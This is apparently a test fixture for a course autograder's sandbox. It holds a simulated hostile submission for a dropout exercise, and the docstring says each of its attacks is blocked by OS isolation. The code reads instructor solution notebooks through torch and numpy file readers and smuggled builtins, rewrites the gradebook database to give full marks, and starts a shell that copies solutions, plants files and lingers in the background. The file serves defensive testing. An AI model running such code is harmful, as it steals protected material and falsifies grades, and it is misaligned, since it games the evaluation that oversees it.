"""Attacks the screen lets through, each stopped by the operating system's walls: builtins reached through a torch
module by attrgetter, the instructor's notebook read by C code (torch.from_file, np.fromfile), a shell started to
copy the solutions and plant files, the gradebook opened with sqlite3 to give itself full marks, and a background
process left running. The layer itself is the identity: nothing it stole can help it."""

CELLS = {
    "dropout_class": '''
import glob
import operator
import sqlite3
import subprocess

import torch

stolen = []
places = ["/work/*/solutions/e01_inverted_dropout/*.ipynb", "/tmp/pytest-of-*/*/course*/solutions/*/*.ipynb",
          "../" * 6 + "solutions/e01_inverted_dropout/*.ipynb"]
for pattern in places:
    for path in glob.glob(pattern):
        for read in (lambda p: torch.from_file(p, size=64, dtype=torch.uint8),
                     lambda p: np.fromfile(p, dtype=np.uint8),
                     lambda p: operator.attrgetter("__builtins__")(torch.nn.functional)["open"](p).read()):
            try:
                stolen.append(read(path))
            except Exception as err:
                stolen.append(err)
for pattern in ["/work/*/gradebook.db", "/tmp/pytest-of-*/*/course*/gradebook.db", "../" * 4 + "gradebook.db"]:
    for path in glob.glob(pattern):
        try:
            with sqlite3.connect(path) as db:
                db.execute("update grade set manual_score = max_score")
        except Exception as err:
            stolen.append(err)
subprocess.Popen(["sh", "-c", "cp -r /work/*/solutions /tmp/pytest-of-*/*/course*/solutions /tmp/ 2>/dev/null; "
                  "for d in /tmp/pytest-of-*/*/course*/grader; do touch $d/planted; done 2>/dev/null; sleep 31.7"])


class Dropout:
    def __init__(self, p=0.5, rng=None):
        self.p, self.rng, self.training = p, rng, True

    forward = backward = lambda self, x: x
''',
}
FAILS = {"test_forward", "test_drop_fraction", "test_backward", "test_standard_dropout"}
